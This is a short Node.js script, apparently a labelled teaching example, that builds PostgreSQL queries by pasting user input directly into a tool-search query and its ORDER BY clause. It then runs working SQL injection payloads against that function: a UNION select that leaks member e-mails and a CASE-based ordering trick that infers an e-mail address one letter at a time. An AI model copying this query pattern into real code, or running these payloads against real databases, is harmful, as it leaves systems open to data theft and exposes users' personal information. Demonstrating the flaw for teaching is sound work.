// database: postgresql
// needs: ../../databases/samples/toolshed.sql
// insecure: inj-search.mjs
// Insecure: what a visitor typed becomes a part of the SQL.
import pg from "pg";

const union = "x' UNION SELECT email FROM member ORDER BY 1 --";
const guess = (letter) =>
  `CASE WHEN (SELECT email FROM member WHERE id = 4) LIKE '${letter}%'
   THEN daily_fee ELSE -daily_fee END`;

async function search(client, text, sort = "name") {
  const { rows } = await client.query(
    `SELECT name FROM tool WHERE name LIKE '%${text}%' ORDER BY ${sort}`,
  );
  return rows.map((row) => row.name);
}

const client = new pg.Client();
await client.connect();
console.log("honest:", (await search(client, "drill")).join(", "));
console.log("UNION:", (await search(client, union)).join(", "));
for (const letter of "ad") {
  const [first] = await search(client, "", guess(letter));
  console.log(`does the e-mail begin with ${letter}? first is`, first);
}
await client.end();
